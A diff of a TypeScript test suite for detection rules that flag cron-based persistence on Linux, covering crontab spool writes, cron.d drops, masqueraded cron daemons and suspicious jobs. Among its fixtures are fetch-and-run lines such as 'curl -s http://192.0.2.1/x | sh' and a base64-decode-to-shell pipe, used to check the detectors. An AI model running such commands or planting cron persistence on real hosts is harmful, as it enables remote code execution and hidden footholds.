@@ -163,9 +163,20 @@ describe('crontab-invoked', () => {
     ['crontab', '-i', '/tmp/table'],
     ['crontab', '--', '-l'],
     ['crontab', '/tmp/my -l file'],
+    // The caller names the process: none of it is an option.
+    ['crontab -l'],
+    ['-l', '/tmp/table'],
+    ['crontab -u alice', '-'],
+    ['crontab -i', '-'],
+    // Options behind a file, where POSIXLY_CORRECT makes names of them.
+    ['crontab', '/tmp/table', '-l'],
+    ['crontab', '/tmp/table', '-u', '-l'],
   ])('sees %s %s %s', (...args) => expect(fires(...args.filter(Boolean))).toBe(true));
 
   it.each([
+    ['crontab', '-V'],
+    ['crontab', '--help'],
+    ['/usr/bin/crontab', '-u', 'alice', '-ir'],
     ['crontab', '-l'],
     ['crontab', '-u', 'alice', '-l'],
     ['crontab', '-ualice', '-l'],
@@ -190,8 +201,8 @@ describe.each(['crontab-spool-written', 'crontab-table-changed'])('%s', (slug) =
   it.each([
     'creation /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/at',
     'creation /var/spool/cron/atspool/a0000101c8918f by /usr/sbin/atd',
-    'creation /var/spool/cron/crontabs/x by /usr/bin/dpkg',
     'deletion /var/spool/cron/crontabs/alice by /usr/bin/crontab',
+    'permissions /var/spool/cron/crontabs/alice by /usr/bin/chmod',
     'creation /tmp/crontab.XXXX/crontab by /usr/bin/crontab',
   ])('leaves %s', (text) => expect(fires(text)).toBe(false));
 });
@@ -200,7 +211,30 @@ it('only Sigma sees the temporary file of the client, only EQL a table that is c
   expect(firing(file('creation /var/spool/cron/crontabs/tmp.a1B2c3 by /usr/bin/crontab'))).toEqual([
     'crontab-spool-written',
   ]);
-  expect(firing(file('modification /var/spool/cron/crontabs/root'))).toEqual(['crontab-table-changed']);
+  expect(firing(file('modification /var/spool/cron/crontabs/root'))).toEqual([
+    'crontab-table-changed',
+    'crontab-written-without-client',
+  ]);
+});
+
+describe('crontab-written-without-client', () => {
+  const fires = onFile('crontab-written-without-client');
+
+  it.each([
+    'creation /var/spool/cron/crontabs/root',
+    'rename /var/spool/cron/crontabs/alice by /usr/local/sbin/svcstat',
+    'creation /var/spool/cron/crontabs/alice by /tmp/crontab',
+    'overwrite /var/spool/cron/root by /usr/bin/curl',
+    'rename /var/spool/cron/crontabs by /usr/bin/mv',
+    'creation /etc/crontabs/root by /usr/bin/dpkg',
+  ])('sees %s', (text) => expect(fires(text)).toBe(true));
+
+  it.each([
+    'rename /var/spool/cron/crontabs/alice by /usr/bin/crontab',
+    'creation /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/at',
+    'deletion /var/spool/cron/crontabs/alice',
+    'creation /var/spool/cronolog/alice',
+  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
 });
 
 describe('crontab-installed-by-client', () => {
@@ -234,10 +268,26 @@ describe('crontab-replaced-in-log', () => {
 
   it('sees the line of the client, and no other of cron', () => {
     expect(logged('crontab', '(alice) REPLACE (alice)')).toEqual(['crontab-replaced-in-log']);
-    expect(logged('crontab', '(root) REPLACE (alice)')).toEqual(['crontab-replaced-in-log']);
+    expect(logged('crontab', '(root) REPLACE (root)')).toEqual(['crontab-replaced-in-log']);
+    expect(logged('crontab', '(root) REPLACE (alice)')).toEqual([
+      'crontab-replaced-for-another',
+      'crontab-replaced-in-log',
+    ]);
     expect(logged('crontab', '(alice) LIST (alice)')).toEqual([]);
     expect(logged('crontab', '(alice) DELETE (alice)')).toEqual([]);
     expect(logged('CRON', '(root) CMD (sed s/REPLACE/x/ /etc/hosts)')).toEqual([]);
+  });
+
+  it('the refusals of the daemon are a rule of their own', () => {
+    for (const line of [
+      '(*system*x) INSECURE MODE (group/other writable) (/etc/cron.d/x)',
+      '(alice) WRONG FILE OWNER (crontabs/alice)',
+      '(*system*x) NUMBER OF HARD LINKS > 1 (/etc/cron.d/x)',
+      "(alice) CAN'T OPEN (crontabs/alice)",
+      '(update) ORPHAN (no passwd entry)',
+    ])
+      expect(logged('cron', line)).toEqual(['cron-table-refused-in-log']);
+    expect(logged('cron', '(CRON) INFO (Running @reboot jobs)')).toEqual([]);
   });
 });
 
@@ -255,16 +305,24 @@ describe.each(['cron-table-dropped', 'cron-table-changed'])('%s', (slug) => {
     'creation /etc/periodic/15min/job by /bin/busybox',
     'rename /etc/crontab by /usr/bin/sed',
     'rename /etc/anacrontab by /usr/bin/sed',
-    // Beside the package manager, not by it.
+    // Beside the package manager, not by it; and where another's package would have its program, if it were here.
     'creation /etc/cron.d/job by /tmp/dpkg',
+    'creation /etc/cron.d/job by /usr/bin/pacman',
+    'creation /etc/cron.d/job by /usr/bin/rpm',
+    'creation /etc/cron.d/job by /sbin/apk',
+    'creation /etc/cron.d/job by /opt/puppetlabs/puppet/bin/ruby',
+    'creation /etc/cron.d/job by /opt/chef/embedded/bin/ruby',
+    // Cron passes over it here; cronie does not.
+    'creation /etc/cron.d/job.conf',
   ])('sees %s', (text) => expect(fires(text)).toBe(true));
 
   it.each([
     'creation /etc/cron.d/php.dpkg-new by /usr/bin/dpkg',
-    'rename /etc/cron.daily/logrotate by /usr/bin/rpm',
+    'rename /etc/cron.daily/logrotate by /usr/bin/dpkg',
     'creation /etc/cron.d/.job.swp by /usr/bin/vim.basic',
-    'deletion /etc/cron.d/job',
-    'creation /etc/cron.deny',
+    'rename /etc/cron.d/job~ by /usr/bin/vim.basic',
+    'deletion /etc/cron.d/job by /usr/bin/dpkg',
+    'permissions /etc/cron.d/job by /usr/bin/chmod',
     'creation /home/alice/etc/cron.d/job',
   ])('leaves %s', (text) => expect(fires(text)).toBe(false));
 });
@@ -273,6 +331,235 @@ it('only EQL sees a line that is appended', () => {
   for (const path of ['/etc/crontab', '/etc/cron.daily/logrotate', '/etc/anacrontab']) {
     expect(firing(file(`modification ${path}`))).toEqual(['cron-table-changed']);
   }
+});
+
+it('the list of who may use crontab is a rule of its own', () => {
+  for (const text of [
+    'creation /etc/cron.allow',
+    'modification /etc/cron.deny by /usr/bin/tee',
+    'rename /etc/cron.deny by /usr/bin/sed',
+    'deletion /etc/cron.deny by /usr/bin/rm',
+    'creation /etc/cron.allow.d/alice',
+  ])
+    expect(firing(file(text))).toEqual(['cron-access-changed']);
+  expect(firing(file('open /etc/cron.allow'))).toEqual([]);
+  expect(firing(file('creation /srv/image/etc/cron.allow'))).toEqual([]);
+});
+
+describe('cron-folder-replaced', () => {
+  const link = (path: string, target: string) => {
+    const made = file(`creation ${path} by /usr/bin/ln`) as { file: object };
+    return { ...made, file: { ...made.file, target_path: target, type: 'symlink' } };
+  };
+  const fires = (event: object) => firing(event).includes('cron-folder-replaced');
+
+  it.each([
+    '/etc/cron.d',
+    '/etc/cron.hourly',
+    '/etc/cron.yearly',
+    '/etc/crontabs',
+    '/etc/periodic/15min',
+    '/var/spool',
+    '/var/spool/cron',
+    '/var/spool/cron/crontabs',
+  ])('sees %s linked, renamed, moved away and mounted over', (path) => {
+    expect(fires(link(path, '/usr/local/share/tables'))).toBe(true);
+    expect(fires(file(`rename ${path} by /usr/bin/mv`))).toBe(true);
+    // An exchange is told by one of its names.
+    expect(fires(file('rename /usr/local/share/tables', { from: path }))).toBe(true);
+    expect(fires(file(`mount ${path} by /usr/bin/mount`))).toBe(true);
+  });
+
+  it('leaves folders that are made, what is in them, and others of the name', () => {
+    expect(fires(file('creation /etc/cron.d by /usr/bin/mkdir'))).toBe(false);
+    expect(fires(file('rename /etc/cron.d/job by /usr/bin/mv'))).toBe(false);
+    expect(fires(link('/etc/cron.d/job', '/opt/job'))).toBe(false);
+    expect(fires(file('rename /srv/image/etc/cron.d by /usr/bin/mv'))).toBe(false);
+    expect(fires(file('rename /etc/cron.deny by /usr/bin/mv'))).toBe(false);
+  });
+});
+
+describe('cron-table-removed', () => {
+  const fires = onFile('cron-table-removed');
+
+  it.each([
+    'deletion /var/spool/cron/crontabs/alice by /usr/bin/crontab',
+    'deletion /etc/cron.d/job by /usr/bin/rm',
+    'deletion /etc/cron.daily/logrotate by /usr/bin/rm',
+  ])('sees %s', (text) => expect(fires(text)).toBe(true));
+
+  it.each([
+    'deletion /etc/cron.d/job by /usr/bin/dpkg',
+    'deletion /etc/cron.d/.job.swp by /usr/bin/vim.basic',
+    'deletion /etc/cron.daily/job~ by /usr/bin/emacs-nox',
+    'deletion /srv/image/etc/cron.d/job',
+  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
+});
+
+describe('cron-table-from-local-package', () => {
+  const written = file('creation /etc/cron.d/agent.dpkg-new by /usr/bin/dpkg');
+  const fires = (args: readonly string[], parent: string) =>
+    firing(exec('/usr/bin/dpkg', ['dpkg', ...args], parent), written).includes(
+      'cron-table-from-local-package',
+    );
+
+  it('sees dpkg run by hand however it is told, and apt that is given a file', () => {
+    expect(fires(['-i', '/tmp/agent.deb'], '/usr/bin/dash')).toBe(true);
+    expect(fires(['--unpack', '/tmp/agent'], '/usr/bin/python3.11')).toBe(true);
+    expect(fires(['-iR', '/tmp/packages'], '/tmp/apt-get')).toBe(true);
+    expect(fires(['--unpack', '--auto-deconfigure', '/tmp/agent.deb'], '/usr/bin/apt-get')).toBe(true);
+  });
+
+  it('leaves apt with archives of its cache, and dpkg that brings no job', () => {
+    const archive = '/var/cache/apt/archives/agent_1.0_all.deb';
+    expect(fires(['--status-fd', '14', '--unpack', archive], '/usr/bin/apt-get')).toBe(false);
+    expect(fires(['--configure', '--pending'], '/usr/bin/apt')).toBe(false);
+    expect(
+      firing(
+        exec('/usr/bin/dpkg', ['dpkg', '-i', '/tmp/x.deb'], '/usr/bin/dash'),
+        file('creation /etc/x by /usr/bin/dpkg'),
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('cron-daemon-masqueraded and cron-program-replaced', () => {
+  const run = (executable: string, args: readonly string[], parentPid = 200) => {
+    const event = exec(executable, args) as { process: { parent: object } };
+    const parent = { ...event.process.parent, pid: parentPid };
+    return firing({ ...event, process: { ...event.process, parent } }).includes('cron-daemon-masqueraded');
+  };
+
+  it('see who goes by the name of the daemon, and what is put in its place', () => {
+    expect(run('/tmp/cron', ['/tmp/cron'])).toBe(true);
+    expect(run('/usr/bin/dash', ['/usr/sbin/cron -f', '-c', 'sleep 1'])).toBe(true);
+    expect(run('/usr/bin/bash', ['crond', '-n'])).toBe(true);
+    expect(run('/usr/sbin/crond', ['/usr/sbin/crond', '-c', 'sleep 1'])).toBe(true);
+    for (const text of [
+      'creation /usr/sbin/crond by /usr/bin/cp',
+      'modification /usr/bin/crontab',
+      'rename /usr/bin/run-parts by /usr/bin/mv',
+    ])
+      expect(firing(file(text))).toEqual(['cron-program-replaced']);
+  });
+
+  it('leave the daemon, and programs whose names only begin like its', () => {
+    expect(run('/usr/sbin/cron', ['/usr/sbin/cron', '-f'], 1)).toBe(false);
+    expect(run('/usr/sbin/crond', ['/usr/sbin/crond', '-n'], 1)).toBe(false);
+    expect(run('/usr/bin/dash', ['/bin/sh', '/usr/local/bin/check_cron'])).toBe(false);
+    expect(run('/usr/bin/cronolog', ['cronolog', '/var/log/x'])).toBe(false);
+    expect(firing(file('rename /usr/sbin/cron by /usr/bin/dpkg'))).toEqual([]);
+    expect(firing(file('creation /srv/image/usr/sbin/cron by /usr/bin/cp'))).toEqual([]);
+  });
+});
+
+describe('anacron', () => {
+  it('is seen with a table or notes of another', () => {
+    const run = (...args: string[]) => firing(exec('/usr/sbin/anacron', ['anacron', ...args]));
+    expect(run('-n', '-t', '/home/alice/table', '-S', '/home/alice/notes')).toEqual(['anacron-own-table']);
+    expect(run('-nt/home/alice/table')).toEqual(['anacron-own-table']);
+    expect(run('-S', '/tmp')).toEqual(['anacron-own-table']);
+    expect(run('-T', '-t', '/etc/anacrontab')).toEqual([]);
+    expect(run('-d', '-q', '-s')).toEqual([]);
+    expect(run('-u', 'cron.daily')).toEqual([]);
+    // Its own name may be a choice of the caller's.
+    expect(firing(exec('/usr/sbin/anacron', ['anacron -T', '-t', '/tmp/table', '-n']))).toEqual([
+      'anacron-own-table',
+    ]);
+  });
+
+  it('is alone with its notes', () => {
+    expect(firing(file('modification /var/spool/anacron/cron.daily'))).toEqual(['anacron-note-changed']);
+    expect(firing(file('deletion /var/spool/anacron/cron.daily by /usr/bin/rm'))).toEqual([
+      'anacron-note-changed',
+    ]);
+    expect(firing(file('modification /var/spool/anacron/cron.daily by /usr/sbin/anacron'))).toEqual([]);
+  });
+});
+
+describe('what cron launches', () => {
+  const launched = (command: string, { shell = '/bin/sh', parent = '/usr/sbin/cron', uid = '0' } = {}) => {
+    const event = exec('/usr/bin/dash', [shell, '-c', command], parent) as { process: object };
+    return firing({ ...event, process: { ...event.process, user: { id: uid } } });
+  };
+
+  it('is seen when it decodes or fetches', () => {
+    expect(launched('echo dG91Y2g= | base64 -d | sh')).toEqual(['cron-job-decodes-or-fetches']);
+    expect(launched('curl -s http://192.0.2.1/x | sh')).toEqual(['cron-job-decodes-or-fetches']);
+    expect(launched('cd /; wget -qO- http://192.0.2.1/x', { parent: '/usr/sbin/anacron' })).toEqual([
+      'cron-job-decodes-or-fetches',
+    ]);
+    expect(launched('/usr/bin/curly brackets')).toEqual([]);
+    expect(launched('base64 /etc/hostname')).toEqual([]);
+    expect(launched('curl -s http://192.0.2.1/x', { parent: '/usr/bin/bash' })).toEqual([]);
+  });
+
+  it('is seen when it lies hidden, or its shell is none', () => {
+    expect(launched('/home/alice/.config/.keeper')).toEqual(['cron-job-hidden-program']);
+    expect(launched('cd /srv/./app && ./run')).toEqual([]);
+    expect(launched('true', { shell: '/home/alice/lib/helper' })).toEqual(['cron-job-unusual-shell']);
+    expect(launched('true', { shell: '/bin/bash' })).toEqual([]);
+  });
+
+  it('is seen when it runs as an account of a service', () => {
+    expect(launched('true', { uid: '33' })).toEqual(['cron-used-by-service-account']);
+    expect(launched('true', { uid: '65534' })).toEqual(['cron-used-by-service-account']);
+    expect(launched('true', { uid: '1000' })).toEqual([]);
+    expect(launched('true', { uid: '33', parent: '/usr/bin/bash' })).toEqual([]);
+  });
+
+  it('is seen after a table was written', () => {
+    const job = exec('/usr/bin/dash', ['/bin/sh', '-c', 'true'], '/usr/sbin/cron');
+    const stock = exec(
+      '/usr/bin/dash',
+      ['/bin/sh', '-c', 'cd / && run-parts --report /etc/cron.hourly'],
+      '/usr/sbin/cron',
+    );
+    const slug = 'cron-scheduled-then-launched';
+    expect(firing(file('creation /etc/cron.d/job'), job)).toContain(slug);
+    expect(firing(file('modification /etc/crontab'), job)).toContain(slug);
+    expect(firing(job, file('creation /etc/cron.d/job'))).not.toContain(slug);
+    expect(firing(file('creation /etc/cron.d/job'), stock)).not.toContain(slug);
+    expect(firing(file('creation /etc/cron.d/job by /usr/bin/dpkg'), job)).not.toContain(slug);
+    expect(firing(file('permissions /etc/cron.d/job'), job)).not.toContain(slug);
+    expect(firing(file('creation /etc/cron.d/job~'), job)).not.toContain(slug);
+  });
+});
+
+it('a mode that lets everybody write is seen on cron’s files alone', () => {
+  const opened = (path: string, mode: string) => {
+    const event = file(`permissions ${path} by /usr/bin/chmod`) as { file: object };
+    return firing({ ...event, file: { ...event.file, mode } });
+  };
+  for (const mode of ['0666', '0777', '0602', '1757'])
+    expect(opened('/etc/cron.d/job', mode)).toEqual(['cron-file-open-to-all']);
+  for (const mode of ['0644', '0755', '0664', '2770']) expect(opened('/etc/cron.d/job', mode)).toEqual([]);
+  expect(opened('/srv/cron.d/job', '0666')).toEqual([]);
+});
+
+it('environment lines of a table are read from the inventory', () => {
+  const added = (environment: Record<string, string>, dataset = 'atomclock.inventory') =>
+    firing({
+      host: { os: { type: 'linux' } },
+      event: { category: ['configuration'], type: ['creation'], action: 'schedule-added', dataset },
+      atomclock: { sensor: 'inventory', schedule: { kind: 'crontab', environment } },
+    });
+  expect(added({ PATH: '/home/alice/.cache:/usr/bin:/bin' })).toEqual(['cron-job-environment']);
+  expect(added({ PATH: '/usr/local/lib/tools:/usr/bin' })).toEqual(['cron-job-environment']);
+  expect(added({ SHELL: '/home/alice/lib/helper' })).toEqual(['cron-job-environment']);
+  expect(added({ PATH: '/usr/local/sbin:/usr/local/bin:/sbin:/bin', SHELL: '/bin/sh' })).toEqual([]);
+  expect(added({ MAILTO: '' })).toEqual([]);
+});
+
+it('a job that runs the crontab client shares its session with it', () => {
+  const inSession = (event: object, leader: string) => {
+    const { process } = event as { process: object };
+    return { ...event, process: { ...process, session_leader: { entity_id: leader } } };
+  };
+  const job = exec('/usr/bin/dash', ['/bin/sh', '-c', 'keeper'], '/usr/sbin/cron');
+  const client = exec('/usr/bin/crontab', ['crontab', '-']);
+  expect(firing(inSession(job, 'one'), inSession(client, 'one'))).toContain('crontab-run-by-job');
+  expect(firing(inSession(job, 'one'), inSession(client, 'two'))).not.toContain('crontab-run-by-job');
 });
 
 describe('cron-job-world-writable', () => {
